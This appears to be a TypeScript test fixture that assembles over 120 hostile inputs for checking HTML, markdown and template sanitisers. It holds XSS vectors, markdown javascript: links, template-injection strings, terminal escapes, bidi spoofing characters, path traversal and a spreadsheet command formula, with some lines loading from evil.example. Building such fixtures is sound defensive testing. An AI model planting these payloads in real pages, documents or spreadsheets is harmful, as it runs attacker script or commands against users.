/** What runs a script where a page makes HTML, an address or a template of it; it would set `window.hurt`. */
const CODE = "window.hurt=1";

const ELEMENTS = [
  `<script>${CODE}</script>`,
  `<img src=x onerror="${CODE}">`,
  `<svg onload="${CODE}">`,
  `<svg><script>${CODE}</script></svg>`,
  `<svg><animate onbegin="${CODE}" attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.${CODE}</script>"></iframe>`,
  `<iframe src="javascript:parent.${CODE}"></iframe>`,
  `<object data="javascript:${CODE}">`,
  `<embed src="javascript:${CODE}">`,
  `<body onload="${CODE}">`,
  `<details open ontoggle="${CODE}">`,
  `<input autofocus onfocus="${CODE}">`,
  `<video><source onerror="${CODE}">`,
  `<audio src=x onerror="${CODE}">`,
  `<math href="javascript:${CODE}">x</math>`,
  `<a href="javascript:${CODE}">x</a>`,
  `<form action="javascript:${CODE}"><button>x</button></form>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${CODE}">`,
  `<base href="//evil.example/">`,
  `<link rel=stylesheet href="//evil.example/x.css">`,
  `<style>@import "//evil.example/x.css"; body { display: none }</style>`,
  `<template><script>${CODE}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${CODE}>">`,
  `<div style="position:fixed;inset:0;background:red">`,
  `<marquee onstart="${CODE}">`,
  `<select><style></select><img src=x onerror=${CODE}></style>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CODE}>`,
  `<img src="//evil.example/pixel.png">`,
];

const BREAKS = ["", '"', "'", "`", "-->", "]]>", "</title>", "</textarea>", "</script>", '">', "'>"];

const MARKDOWN = [
  `[x](javascript:${CODE})`,
  `[x](JaVaScRiPt:${CODE})`,
  `[x](java\tscript:${CODE})`,
  `[x](data:text/html,<script>${CODE}</script>)`,
  `[x](vbscript:${CODE})`,
  `[x](//evil.example)`,
  `<javascript:${CODE}>`,
  `![x](//evil.example/pixel.png)`,
  `![x](https://evil.example/pixel.png)`,
  `![x](javascript:${CODE})`,
  `[x]: javascript:${CODE}\n\n[x]`,
  `[x](https://a.example "onmouseover=${CODE}")`,
  "```html\n<script>window.hurt=1</script>\n```",
  `[![x](x)](javascript:${CODE})`,
  `| <img src=x onerror=${CODE}> |\n|---|\n| <svg onload=${CODE}> |`,
];

const TEXTS = [
  "{{constructor.constructor('window.hurt=1')()}}",
  "${window.hurt=1}",
  "<%= window.hurt=1 %>",
  "\u001b[2J\u001b[31mred\u001b]8;;http://evil.example\u0007link\u001b]8;;\u0007",
  "\u202Egnp.exe\u202C \u2066\u2069 \u200B\uFEFF",
  "\u0001\u0008\u007f\u009b",
  "__proto__",
  "constructor",
  "toString",
  "%3Cscript%3Ewindow.hurt=1%3C/script%3E",
  "&lt;script&gt;window.hurt=1&lt;/script&gt;",
  "\\u003cscript\\u003ewindow.hurt=1",
  "a".repeat(20_000),
  "ﷺ".repeat(500),
  "e\u0301\u0301\u0301".repeat(300),
  "\ud83d\ude00".repeat(500),
  "line\r\nline\u2028line\u2029line",
  "javascript:window.hurt=1",
  "#/keys",
  "../../console/session",
  "=cmd|'/c calc'!A1",
];

/** 120 and more, each of them a text. */
export const HOSTILE_PAYLOADS: readonly string[] = [
  ...ELEMENTS,
  ...BREAKS.flatMap((end) => ELEMENTS.slice(0, 6).map((element) => end + element)),
  ...MARKDOWN,
  ...TEXTS,
];
